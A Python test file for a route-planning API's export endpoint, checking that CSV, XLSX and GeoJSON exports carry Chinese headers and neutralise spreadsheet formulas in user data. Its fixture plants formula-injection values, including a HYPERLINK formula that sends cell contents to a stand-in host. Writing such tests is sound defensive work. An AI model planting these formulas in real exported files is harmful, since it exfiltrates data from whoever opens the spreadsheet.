"""/v1/plans/{id}/export: CSV (BOM, neutralised formulas, Chinese headers), XLSX, GeoJSON."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import pytest
from openpyxl import load_workbook

from routeplan.io.plan_exports import CSV_COLUMNS, HEADERS_ZH
from routeplan_api.services.demo import synthetic_records
from tests.api.conftest import Api, plan_body

EVIL = '=HYPERLINK("http://x/"&A1,"x")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def hostile(api: Api) -> tuple[str, dict[str, Any]]:
    """A finished plan whose first visit id, a team id and a member are formulas."""
    visits, teams = synthetic_records(visits=8, teams=2, seed=3)
    visits[0] = {**visits[0], "visit_id": EVIL}
    visits[1] = {**visits[1], "visit_id": '"@SUM(A1)', "borrower_id": "+86 138"}
    teams[0] = {**teams[0], "team_id": "=T1", "members": ["-C1", "C2"]}
    r = api.post("/v1/plans", json=plan_body((visits, teams)))
    assert r.status_code == 202, r.text
    body = api.wait(r.json()["plan_id"])
    assert body["status"] == "done", body
    return body["plan_id"], body["plan"]


def test_csv_has_a_bom_and_shows_formulas_as_text(api: Api, hostile: tuple[str, Any]) -> None:
    """Excel in Chinese reads UTF-8; no cell from input starts a formula."""
    pid, _plan = hostile
    r = api.get(f"/v1/plans/{pid}/export", params={"format": "csv"})
    assert r.status_code == 200
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert tuple(rows[0]) == CSV_COLUMNS
    ids = {row["visit_id"] for row in rows}
    assert "'" + EVIL in ids and EVIL not in ids
    assert "'\"@SUM(A1)" in ids
    assert all(not cell.lstrip(" \"").startswith(("=", "+", "-", "@"))
               for row in rows for cell in row.values())
    mine = [row for row in rows if row["team_id"] == "'=T1"]
    assert mine and {row["members"] for row in mine} == {"'-C1;C2"}
    assert all(float(row["lat"]) > 30 for row in mine)  # numbers we write stay numbers


def test_csv_headers_in_chinese_on_request(api: Api, hostile: tuple[str, Any]) -> None:
    pid, _plan = hostile
    r = api.get(f"/v1/plans/{pid}/export", params={"format": "csv", "headers": "zh"})
    header = next(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert header == [HEADERS_ZH[c] for c in CSV_COLUMNS]
    bad = api.get(f"/v1/plans/{pid}/export", params={"format": "csv", "headers": "fr"})
    assert bad.status_code == 422


def test_xlsx_export_has_chinese_headers_and_text_cells(api: Api,
                                                       hostile: tuple[str, Any]) -> None:
    """The workbook holds no formula; ids are text cells showing the exact characters."""
    pid, plan = hostile
    r = api.get(f"/v1/plans/{pid}/export", params={"format": "xlsx"})
    assert r.status_code == 200
    assert r.headers["content-type"] == XLSX
    assert r.headers["content-disposition"].endswith('.xlsx"')
    with zipfile.ZipFile(io.BytesIO(r.content)) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    ws = load_workbook(io.BytesIO(r.content)).active
    assert ws is not None
    rows = list(ws.iter_rows())
    assert [c.value for c in rows[0]] == [HEADERS_ZH[c] for c in CSV_COLUMNS]
    visit_col = CSV_COLUMNS.index("visit_id")
    cells = {row[visit_col].value: row[visit_col] for row in rows[1:]}
    assert cells[EVIL].data_type == "s" and cells[EVIL].quotePrefix
    assert len(cells) == len(plan["unassigned"]) + sum(len(t["stops"]) for t in plan["routes"])
    assert isinstance(rows[1][CSV_COLUMNS.index("lat")].value, float)


def test_geojson_export_carries_ids_as_data(api: Api, hostile: tuple[str, Any]) -> None:
    pid, plan = hostile
    r = api.get(f"/v1/plans/{pid}/export", params={"format": "geojson"})
    assert r.headers["content-type"] == "application/geo+json"
    stops = {f["properties"]["visit_id"] for f in r.json()["features"]
             if f["properties"]["kind"] == "stop"}
    assert stops == {s["visit_id"] for t in plan["routes"] for s in t["stops"]}
